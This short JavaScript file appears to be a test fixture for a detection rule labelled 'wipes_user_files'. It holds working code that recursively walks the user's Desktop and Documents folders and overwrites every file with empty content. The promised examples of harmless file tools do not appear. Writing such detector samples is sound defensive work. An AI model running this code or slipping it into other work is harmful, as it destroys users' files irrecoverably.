// A walk over the user's folders writing a constant over each file, and file tools that do not.
const fs = require('fs');
const path = require('path');
const os = require('os');
function walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p);
    // ruleid: wipes_user_files
    else fs.writeFileSync(p, '');
  }
}
for (const d of ['Desktop', 'Documents']) walk(path.join(os.homedir(), d));
